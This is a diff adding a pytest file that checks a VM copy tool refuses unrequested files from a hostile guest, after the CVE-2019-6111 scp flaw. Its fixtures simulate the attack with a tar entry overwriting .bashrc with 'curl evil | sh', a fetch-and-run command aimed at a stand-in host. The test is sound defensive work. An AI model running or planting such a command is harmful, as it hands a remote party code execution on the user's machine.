@@ -1,0 +1,115 @@
+"""scp from a guest that sends what was not asked for (CVE-2019-6111): refused, nothing written.
+
+No real guest can be made hostile, so the SSH channel is replaced by one that answers ``tar -c``
+with a prepared tar stream; the unpacking, the name check and the placing are the real ones.
+"""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cernvm_build.errors import SSHError
+from cernvm_build.launch import copy, ready
+
+
+def _tar(entries: list[tuple[str, bytes | None]]) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as tar:
+        for name, data in entries:
+            info = tarfile.TarInfo(name)
+            if data is None:
+                info.type, info.mode = tarfile.DIRTYPE, 0o755
+                tar.addfile(info)
+            else:
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+class _Guest:
+    """An SSH client whose every command's stdout is ``stream`` and whose exit status is 0."""
+
+    def __init__(self, stream: bytes) -> None:
+        self.stream = stream
+
+    def get_transport(self) -> Any:
+        return self
+
+    def open_session(self) -> Any:
+        return self
+
+    def exec_command(self, command: str) -> None:
+        pass
+
+    def shutdown_write(self) -> None:
+        pass
+
+    def makefile(self, mode: str) -> io.BytesIO:
+        return io.BytesIO(self.stream)
+
+    def makefile_stderr(self, mode: str) -> io.BytesIO:
+        return io.BytesIO(b"")
+
+    def recv_exit_status(self) -> int:
+        return 0
+
+    def close(self) -> None:
+        pass
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    home = tmp_path / "home"
+    (home / "Documents").mkdir(parents=True)
+    (home / "Documents" / "thesis.tex").write_text("years of work\n")
+    (home / ".bashrc").write_text("# mine\n")
+    return home
+
+
+def _download(monkeypatch: pytest.MonkeyPatch, stream: bytes, src: str, dest: Path) -> list[str]:
+    monkeypatch.setattr(ready, "connect", lambda conn, name, user=None: _Guest(stream))
+    return copy.copy(None, [f"vm:{src}"], str(dest), recursive=True)
+
+
+def _untouched(home: Path) -> None:
+    assert (home / ".bashrc").read_text() == "# mine\n"
+    assert [p.name for p in (home / "Documents").iterdir()] == ["thesis.tex"]
+    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "Documents"]
+
+
+@pytest.mark.parametrize(
+    ("src", "entries"),
+    [
+        ("out.txt", [("out.txt", b"ok"), (".bashrc", b"curl evil | sh\n")]),
+        ("out.txt", [(".bashrc", b"curl evil | sh\n"), ("Documents", None), ("Documents/x", b"x")]),
+        ("*.txt", [("out.txt", b"ok"), ("Documents", None)]),
+        ("*", [("out.txt", b"ok"), (".bashrc", b"curl evil | sh\n")]),
+        (".", [(".", None), ("./a", b"a"), ("b", b"b")]),
+        ("out.txt", [("/out.txt", b"absolute")]),
+    ],
+)
+def test_names_not_asked_for_are_refused_and_nothing_is_written(
+    monkeypatch: pytest.MonkeyPatch, home: Path, src: str, entries: list[tuple[str, bytes | None]]
+) -> None:
+    with pytest.raises(SSHError, match="not asked for"):
+        _download(monkeypatch, _tar(entries), src, home)
+    _untouched(home)
+
+
+def test_the_names_asked_for_land_and_a_folder_merges(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
+    stream = _tar([("Documents", None), ("Documents/new.tex", b"new\n")])
+    assert _download(monkeypatch, stream, "/data/Documents", home) == [str(home / "Documents")]
+    assert sorted(p.name for p in (home / "Documents").iterdir()) == ["new.tex", "thesis.tex"]
+    stream = _tar([("a.txt", b"a"), ("b.txt", b"b")])
+    assert len(_download(monkeypatch, stream, "*.txt", home)) == 2
+    assert (home / "b.txt").read_bytes() == b"b"
+    # a file over a folder is refused in one line, the folder kept
+    with pytest.raises(SSHError, match="over the folder"):
+        _download(monkeypatch, _tar([("Documents", b"flat")]), "Documents", home)
+    assert (home / "Documents" / "thesis.tex").exists()
+    assert not list(home.glob(".scp-*"))
